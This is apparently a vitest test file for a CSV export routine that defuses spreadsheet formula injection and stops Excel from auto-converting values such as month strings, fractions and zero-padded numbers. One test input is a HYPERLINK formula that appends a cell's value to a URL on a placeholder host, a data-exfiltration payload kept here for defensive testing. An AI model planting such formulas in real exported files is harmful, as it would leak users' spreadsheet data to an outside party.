import { describe, expect, test } from 'vitest';
import { bytesOf, linesOf, textOf } from '../../../tests/support/make-releases.ts';
import { checks, checksHeader, visits, visitsHeader } from '../../../tests/support/trial-datasets.ts';
import { inspections } from '../../subjects/rankings/datasets/inspections.ts';
import { excelCopy } from './excel-copy.ts';

const copyOf = (...lines: string[]) =>
  textOf(excelCopy(visits, '2022-05-16', bytesOf(linesOf(visitsHeader, ...lines))));
const mark = '\uFEFF';

describe('the Excel copy', () => {
  test.each([
    ['"=HYPERLINK(""https://a.example/?""&A1,""open"")"', `"'=HYPERLINK(""https://a.example/?""&A1,""open"")"`],
    ['@示例市场', "'@示例市场"],
    ['+Sample market', "'+Sample market"],
    ['-cleared the same day', "'-cleared the same day"],
    ['＝1+1', "'＝1+1"],
    ['"=1\n+1"', `"'=1\n+1"`],
    ['2026-10', "'2026-10"],
    ['3/4', "'3/4"],
    ['0378', "'0378"],
    ['123456789012345678', "'123456789012345678"],
    ['2e10', "'2e10"],
    ['MAR1', "'MAR1"],
  ])('guards the text %s', (cell, guarded) => {
    expect(copyOf(`V1,${cell},1,,new,,`)).toBe(mark + linesOf(visitsHeader, `V1,${guarded},1,,new,,`));
  });

  test('leaves ordinary texts, numbers, days and the header as they are', () => {
    const lines = ['V1,示例 = 1 - 2,-5,"a, ""b""",new,,', 'V2,"’=1",0.5,2022 年 10 月,update,,'];
    expect(copyOf(...lines)).toBe(mark + linesOf(visitsHeader, ...lines));
    const sound = bytesOf(linesOf(checksHeader, 'C-1,P1,2022-05-01,2022-09-01,95.50,0,passed,,,'));
    expect(textOf(excelCopy(checks, '2022-05-16', sound))).toBe(mark + textOf(sound));
  });

  test('keeps months from turning into days', () => {
    const header = 'month,area,kind,checks,score,change,change_note_zh,change_note_en';
    const copy = textOf(
      excelCopy(inspections, '2025-07-07', bytesOf(linesOf(header, '2025-06,S01,streets,12,-0.5,new,,'))),
    );
    expect(copy).toBe(mark + linesOf(header, "'2025-06,S01,streets,12,-0.5,new,,"));
  });

  test('has one byte-order mark, whatever the registered file has, and its line ends', () => {
    expect(textOf(excelCopy(visits, '2022-05-16', bytesOf(`${mark}${visitsHeader}\r\nV1,=1,1,,new,,\r\n`)))).toBe(
      `${mark}${visitsHeader}\r\nV1,'=1,1,,new,,\r\n`,
    );
  });
});
